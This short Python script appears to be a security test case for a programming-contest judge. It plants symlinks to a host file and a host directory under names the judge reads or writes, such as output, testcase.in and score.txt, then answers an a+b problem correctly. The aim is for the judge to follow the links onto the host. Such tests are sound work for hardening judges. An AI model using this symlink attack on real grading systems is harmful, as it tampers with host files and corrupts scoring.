"""Leave symlinks to a host file, and to its directory, under every name the judge might read,
write, chown or remove; then answer correctly, so the judge carries on with them in place.
"""

import contextlib
import os

target = "@@HOST_FILE@@"
for name in ["leak", "output", "testcase.in", "testcase.ans", "judgemessage.txt", "score.txt"]:
    with contextlib.suppress(OSError):
        os.symlink(target, name)
for name in ["feedback", "feedback1"]:
    with contextlib.suppress(OSError):
        os.symlink("@@HOST_DIR@@", name)
a, b = map(int, input().split())
print(a + b)
